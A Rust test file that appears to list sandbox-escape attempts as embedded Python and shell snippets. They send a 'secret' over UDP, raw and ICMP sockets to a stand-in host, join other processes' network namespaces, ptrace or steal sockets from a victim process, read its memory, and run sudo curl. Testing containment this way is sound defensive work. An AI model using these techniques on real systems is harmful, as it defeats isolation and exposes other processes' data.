//! Other protocols, other ways to get a socket, and other processes that have one.

use super::Proof::{Contact, Word};
use super::{Attempt, attempt};

pub(in super::super) const KERNEL: &[Attempt] = &[
    attempt(
        "udp",
        "socket.socket(V4, UDP).sendto(b'secret', (OTHER, 9999)); leave(43, 'sent')",
    )
    .proved_by(Contact),
    attempt("udp_connected", "
with socket.socket(V4, UDP) as sender:
    sender.connect((OTHER, 9999))
    sender.settimeout(30)
    sender.send(b'secret')
    judge(sender.recv(100))"),
    attempt("quic", "
with socket.socket(V4, UDP) as sender:
    sender.connect((OTHER, 443))
    sender.settimeout(30)
    sender.send(b'secret')
    judge(sender.recv(100))"),
    attempt("udp_to_an_allowed_name", "
with socket.socket(V4, UDP) as sender:
    sender.connect(('allowed.test', 443))
    sender.settimeout(30)
    sender.send(b'secret')
    judge(sender.recv(100))"),
    attempt("udp6", "
with socket.socket(V6, UDP) as sender:
    sender.connect(('2606:2800:220:1::1', 9999))
    sender.settimeout(30)
    sender.send(b'secret')
    judge(sender.recv(100))"),
    attempt("udp_to_loopback", "
with socket.socket(V4, UDP) as sender:
    sender.connect(('127.0.0.1', 9999))
    sender.settimeout(30)
    sender.send(b'secret')
    judge(sender.recv(100))"),
    attempt(
        "udp_sendmsg",
        "
sender = socket.socket(V4, UDP)
pktinfo = struct.pack('=I4s4s', 1, socket.inet_aton('127.0.0.1'), bytes(4))
sender.sendmsg([b'secret'], [(socket.IPPROTO_IP, 8, pktinfo)], 0, (OTHER, 9999))
leave(43, 'sent')",
    )
    .proved_by(Contact),
    attempt(
        "multipath_tcp",
        "
try:
    connection = socket.socket(V4, TCP, 262)
except OSError as error:
    if error.errno in (errno.EPROTONOSUPPORT, errno.EINVAL, errno.ENOPROTOOPT):
        impossible(error)
    raise
connection.connect((OTHER, 80))
connection.sendall(GET)
judge(rest(connection))",
    ),
    attempt(
        "smc",
        "
try:
    connection = socket.socket(43, TCP)
except OSError as error:
    if error.errno in (errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT):
        impossible(error)
    raise
connection.connect((OTHER, 80))
connection.sendall(GET)
judge(rest(connection))",
    ),
    attempt(
        "udp_lite",
        "
try:
    sender = socket.socket(V4, UDP, 136)
except OSError as error:
    impossible(error) if 'CONTROL' in os.environ else blocked(error)
sender.sendto(b'secret', (OTHER, 9999))
leave(43, 'sent')",
    )
    .proved_by(Contact),
    attempt("sctp", "make(V4, TCP, 132)").proved_by(Word),
    attempt("dccp", "make(V4, 6, 33)").proved_by(Word),
    attempt("raw", "make(V4, socket.SOCK_RAW, 255)").proved_by(Word),
    attempt("raw_ipv6", "make(V6, socket.SOCK_RAW, 58)").proved_by(Word),
    attempt("packet", "make(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)").proved_by(Word),
    attempt("vsock", "make(40, TCP)").proved_by(Word),
    attempt("xdp", "make(44, socket.SOCK_RAW)").proved_by(Word),
    attempt("tipc", "make(30, TCP)").proved_by(Word),
    attempt("rds", "make(21, 5)").proved_by(Word),
    attempt("bluetooth", "make(31, TCP, 3)").proved_by(Word),
    attempt(
        "ping",
        "
raw = socket.socket(V4, socket.SOCK_RAW, 1)
raw.settimeout(30)
head = struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'secret!!'
total = sum(struct.unpack('>8H', head))
checksum = ~((total & 0xffff) + (total >> 16)) & 0xffff
raw.sendto(head[:2] + struct.pack('>H', checksum) + head[4:], (OTHER, 0))
escaped(raw.recv(100))",
    )
    .proved_by(Word),
    attempt(
        "io_uring",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(425, 4, ctypes.create_string_buffer(120)) >= 0:
    escaped()
blocked(errno.errorcode[ctypes.get_errno()])",
    )
    .proved_by(Word),
    attempt(
        "route",
        "#! PATH=$PATH:/usr/sbin:/sbin; ip route replace 203.0.113.7/32 dev lo || exit 42",
    )
    .proved_by(Word),
    attempt(
        "address",
        "#! PATH=$PATH:/usr/sbin:/sbin; ip address replace 203.0.113.8/32 dev lo || exit 42",
    )
    .proved_by(Word),
    attempt(
        "interface",
        "#! PATH=$PATH:/usr/sbin:/sbin; ip link set lo mtu 60000 || exit 42",
    )
    .proved_by(Word),
    attempt(
        "rule",
        "#! PATH=$PATH:/usr/sbin:/sbin; ip rule add from 203.0.113.9 lookup main || exit 42; ip rule del from 203.0.113.9 lookup main",
    )
    .proved_by(Word),
    attempt(
        "sysctl",
        "
with open('/proc/sys/net/ipv4/ip_local_port_range', 'r+') as setting:
    setting.write('20000 30000')
escaped()",
    )
    .held_by_namespaces_only()
    .proved_by(Word),
    attempt(
        "unix_socket",
        "
with socket.socket(socket.AF_UNIX) as fetcher:
    fetcher.connect(WORLD + '/fetcher.sock')
    fetcher.sendall(b'93.184.216.35 80')
    judge(rest(fetcher))",
    ),
    attempt(
        "unix_socket_by_proc",
        "
directory = os.open(WORLD, os.O_PATH)
with socket.socket(socket.AF_UNIX) as fetcher:
    fetcher.connect(f'/proc/self/fd/{directory}/fetcher.sock')
    fetcher.sendall(b'93.184.216.35 80')
    judge(rest(fetcher))",
    ),
    attempt(
        "abstract_socket",
        "
with socket.socket(socket.AF_UNIX) as fetcher:
    fetcher.connect('\\0fetcher')
    fetcher.sendall(b'93.184.216.35 80')
    judge(rest(fetcher))",
    ),
    attempt(
        "curl_unix_socket",
        "#! printf '93.184.216.35 80' | python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(sys.stdin.buffer.read()); print(s.recv(1000))' \"$WORLD/fetcher.sock\" | grep reached || exit 42",
    ),
    attempt("server_socket", "
with socket.socket(socket.AF_UNIX) as server:
    server.connect(os.environ['SERVER_SOCKET'])
    escaped()")
    .proved_by(Word),
    attempt(
        "network_of_another_process",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
network = os.open(f'/proc/{os.environ[\"VICTIM\"]}/ns/net', os.O_RDONLY)
if libc.setns(network, 0x40000000) != 0:
    if ctypes.get_errno() == errno.EPERM and os.getuid() != 0:
        impossible('only root enters a network')
    blocked(errno.errorcode[ctypes.get_errno()])
judge(tcp((OTHER, 80)))",
    ),
    attempt(
        "network_of_init",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
try:
    network = os.open('/proc/1/ns/net', os.O_RDONLY)
except OSError as error:
    impossible(error) if 'CONTROL' in os.environ else blocked(error)
if libc.setns(network, 0x40000000) != 0:
    blocked(errno.errorcode[ctypes.get_errno()])
escaped()",
    )
    .proved_by(Word),
    attempt(
        "own_namespaces",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000) != 0:
    blocked(errno.errorcode[ctypes.get_errno()])
escaped()",
    )
    .proved_by(Word),
    attempt(
        "trace_another_process",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(0x4206, int(os.environ['VICTIM']), 0, 0) != 0:
    blocked(errno.errorcode[ctypes.get_errno()])
escaped()",
    )
    .proved_by(Word),
    attempt(
        "socket_of_another_process",
        "
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(int(os.environ['VICTIM']))
for number in range(3, 20):
    stolen = libc.syscall(438, pidfd, number, 0)
    if stolen >= 0 and os.readlink(f'/proc/self/fd/{stolen}').startswith('socket:'):
        escaped()
blocked(errno.errorcode[ctypes.get_errno()])",
    )
    .proved_by(Word),
    attempt(
        "descriptors_of_another_process",
        "
path = f'/proc/{os.environ[\"VICTIM\"]}/fd'
escaped([os.readlink(f'{path}/{name}') for name in os.listdir(path)])",
    )
    .proved_by(Word),
    attempt(
        "root_of_another_process",
        "escaped(os.listdir(f'/proc/{os.environ[\"VICTIM\"]}/root/tmp'))",
    )
    .proved_by(Word),
    attempt(
        "memory_of_another_process",
        "escaped(os.open(f'/proc/{os.environ[\"VICTIM\"]}/mem', os.O_RDWR))",
    )
    .proved_by(Word),
    attempt(
        "inherited_descriptors",
        "
# Without a policy this program opens the socket itself: finding it is the attempt.
if os.environ.get('CONTROL'):
    kept = socket.create_connection((OTHER, 80))
for name in os.listdir('/proc/self/fd'):
    try:
        kind = os.readlink(f'/proc/self/fd/{name}')
    except FileNotFoundError:
        continue
    if kind.startswith('socket:'):
        found = socket.socket(fileno=int(name))
        if found.family in (V4, V6, socket.AF_UNIX):
            escaped(found)
blocked('no socket is inherited')",
    )
    .proved_by(Word),
    attempt(
        "sudo",
        "#! command -v sudo > /dev/null || exit 77; sudo -n curl -s http://93.184.216.35/ | grep reached || exit 42",
    ),
    attempt(
        "ping_program",
        "#! command -v ping > /dev/null || exit 77; ping -c 1 -W 5 93.184.216.35 || exit 42",
    )
    .proved_by(Word),
    attempt(
        "mapped_users",
        "#! unshare --user --map-root-user --net true || exit 42",
    )
    .proved_by(Word),
];
